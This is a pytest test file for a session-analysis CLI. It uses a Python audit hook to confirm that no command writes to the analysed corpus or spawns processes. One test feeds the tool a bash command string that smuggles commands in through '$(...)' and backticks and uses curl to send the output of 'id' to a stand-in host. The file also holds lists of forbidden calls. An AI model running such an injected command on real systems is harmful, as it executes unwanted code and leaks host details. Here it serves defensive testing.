"""Nothing is written to a corpus or run from a log, whatever the verb: every one is watched while it works."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from analysis.synth import write_corpus
from cli import app
from tests.cli.commands import COMMAND, PATIENCE, lines_of
from tests.cli.hostile import write_hostile

ROOT = Path(__file__).parents[2]
PACKAGES = ("breaker", "analysis", "cli", "breaker_pytest")

WATCHER = """
import os, sys
corpus = os.path.realpath(sys.argv[1])
forbidden = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "pickle.", "ftplib.", "urllib.",
             "http.", "webbrowser.")
changing = ("os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.chmod", "os.chown", "os.link", "os.symlink",
            "os.truncate", "os.utime", "os.setxattr", "shutil.")
told = []

def watch(event, arguments):
    if event.startswith(forbidden):
        told.append(event)
    paths = [os.fsdecode(one) for one in arguments if isinstance(one, (str, bytes))]
    inside = any(os.path.realpath(path).startswith(corpus) for path in paths[:2] if "\\0" not in path)
    if event == "open" and inside and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND):
        told.append(f"opened for writing: {paths}")
    elif event.startswith(changing) and inside:
        told.append(f"{event}: {paths}")

sys.argv = ["breaker", *sys.argv[2:]]
from cli.main import run
sys.addaudithook(watch)
try:
    run()
except SystemExit as end:
    print(f"ended with {end.code}", file=sys.stderr)
    for one in told:
        print("told", one, file=sys.stderr)
"""

CORPUS_VERBS: dict[str, tuple[str, ...]] = {
    "replay": ("replay", "{corpus}", "--events", "--messages", "--detector", "fail-guard"),
    "doctor": ("doctor", "{corpus}"),
    "compare": ("compare", "{corpus}", "--a", "warnAt=2", "--b", "warnAt=4"),
    "sweep": ("sweep", "{corpus}", "--grid", "warnAt=2,4", "--out", "{out}/sweep.csv"),
    "histogram": ("histogram", "{corpus}"),
    "report": ("report", "{corpus}", "--out", "{out}/page.html"),
    "export": ("export", "{corpus}", "--out", "{out}/tables"),
    "explain": ("explain", "{session}", "{corpus}"),
    "lint": ("lint", "{corpus}"),
    "label": ("label", "suggest", "{corpus}"),
    "check": ("check", "{corpus}", "--config", "{out}/breaker.toml"),
    "approve": ("approve", "{corpus}", "--config", "{out}/breaker.toml", "--baseline", "{out}/base.json"),
    "reproduce": ("reproduce", "{out}/tables/manifest.json", "{corpus}"),
}
OTHER_VERBS = {
    "detectors",
    "guard",
    "measure",
    "classify",
    "shell-http",
    "rulesets",
    "schema",
    "demo",
    "synth",
    "cache",
}
"""Verbs that read no corpus."""


def test_every_verb_is_watched_or_reads_no_corpus() -> None:
    assert set(app.VERBS) == set(CORPUS_VERBS) | OTHER_VERBS


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return sound sessions and hostile ones."""
    folder = tmp_path_factory.mktemp("corpus")
    write_corpus(folder, "demo")
    write_hostile(folder)
    return folder


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory, corpus: Path) -> Path:
    """Return where results go, with what some verbs need."""
    folder = tmp_path_factory.mktemp("out")
    given = json.dumps([str(corpus)])
    (folder / "breaker.toml").write_text(f"[check]\nsessions = {given}\n[check.limits]\nwarn = 0\n", encoding="utf-8")
    made = ("export", corpus, "--out", folder / "tables")
    subprocess.run([COMMAND, *made], check=True, capture_output=True, timeout=PATIENCE)
    return folder


def state_of(folder: Path) -> dict[bytes, tuple[object, ...]]:
    """Return everything a file system tells of a folder, and a digest of each file."""
    found: dict[bytes, tuple[object, ...]] = {}
    for parent, folders, files in os.walk(os.fsencode(folder)):
        for name in (*folders, *files):
            path = parent + b"/" + name
            status = os.lstat(path)
            with_content = hashlib.sha256(Path(os.fsdecode(path)).read_bytes()).hexdigest() if name in files else ""
            found[path] = (status.st_mode, status.st_ino, status.st_size, status.st_mtime_ns, with_content)
    return found


SLOW = ("report", "export", "reproduce", "compare", "sweep", "explain", "approve")
VERBS = [pytest.param(verb, marks=pytest.mark.slow) if verb in SLOW else verb for verb in CORPUS_VERBS]


@pytest.mark.parametrize("verb", VERBS)
def test_a_verb_leaves_the_corpus_as_it_was_and_runs_nothing(
    corpus: Path, out: Path, tmp_path: Path, verb: str
) -> None:
    session = next(corpus.glob("--home-dev-atlas--/*/session.v4.jsonl.zstd"))
    places = {"{corpus}": str(corpus), "{session}": str(session), "{out}": str(tmp_path)}
    for name in ("breaker.toml", "tables"):
        (tmp_path / name).symlink_to(out / name)
    if verb == "export":
        (tmp_path / "tables").unlink()
    given: list[str] = []
    for word in CORPUS_VERBS[verb]:
        for place, path in places.items():
            word = word.replace(place, path)
        given.append(word)
    before = state_of(corpus)
    done = subprocess.run(
        [sys.executable, "-c", WATCHER, corpus, *given],
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=False,
        cwd=tmp_path,
    )
    assert state_of(corpus) == before
    told = done.stderr.split("\n")
    assert next(line for line in told if line.startswith("ended with")) in {"ended with 0", "ended with 1"}
    assert [line for line in told if line.startswith("told ")] == []


def test_a_guard_and_its_kin_run_nothing_they_read(tmp_path: Path) -> None:
    command = "touch owned; $(touch owned) `touch owned`; curl http://a.example/$(id)"
    records = [{"kind": "call", "id": 1, "name": "bash", "arguments": {"command": command}}]
    for verb in (("guard",), ("measure", command), ("shell-http", command), ("classify", command)):
        done = subprocess.run(
            [sys.executable, "-c", WATCHER, tmp_path, *verb],
            input=lines_of(records),
            capture_output=True,
            timeout=PATIENCE,
            check=False,
            cwd=tmp_path,
        )
        assert b"ended with 0" in done.stderr
        assert b"told" not in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_source_calls_nothing_that_runs_text() -> None:
    calls: dict[str, list[str]] = {}
    for path in sorted(path for package in PACKAGES for path in (ROOT / package).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                calls.setdefault(ast.unparse(node.func), []).append(path.name)
    running = ("eval", "exec", "compile", "__import__", "os.system", "os.popen", "pickle.load", "pickle.loads")
    assert {
        name: calls[name] for name in (*running, "yaml.load", "yaml.unsafe_load", "marshal.loads") if name in calls
    } == {"pickle.loads": ["pool.py", "serving.py"]}, "between the processes of one run only"
